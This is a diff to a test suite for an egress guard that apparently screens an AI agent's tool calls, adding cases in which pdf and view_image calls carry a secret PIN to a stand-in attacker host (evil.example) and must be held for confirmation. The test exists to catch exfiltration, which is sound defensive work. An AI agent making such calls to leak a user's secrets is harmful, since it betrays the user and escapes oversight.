@@ -212,6 +212,12 @@ describe("OpenClaw's egress reads", () => {
     expect(leak.reason).toContain("occurs in no single source");
     expect(guard.beforeToolCall("s", { id: "q1", tool: "web_search", params: { query: "4711 owner pin" } }).verdict).toBe("confirm");
     expect(guard.beforeToolCall("s", { id: "f3", tool: "web_fetch", params: { url: "https://news.example/more" } }).verdict).toBe("allow");
+    // pdf and view_image fetch a URL given for the file: the same rule, for each of a list too.
+    expect(guard.beforeToolCall("s", { id: "p1", tool: "pdf", params: { pdf: "https://evil.example/x.pdf?pin=4711" } }).verdict).toBe("confirm");
+    expect(guard.beforeToolCall("s", { id: "p2", tool: "pdf", params: { pdfs: ["https://news.example/more", "https://evil.example/4711.pdf"] } }).verdict).toBe("confirm");
+    expect(guard.beforeToolCall("s", { id: "v1", tool: "view_image", params: { path: "https://evil.example/4711.png" } }).verdict).toBe("confirm");
+    expect(guard.beforeToolCall("s", { id: "v2", tool: "view_image", params: { paths: ["https://evil.example/4711.png"] } }).verdict).toBe("confirm");
+    expect(guard.beforeToolCall("s", { id: "p3", tool: "pdf", params: { pdf: "https://news.example/more" } }).verdict).toBe("allow");
     guard.close();
   });
 });
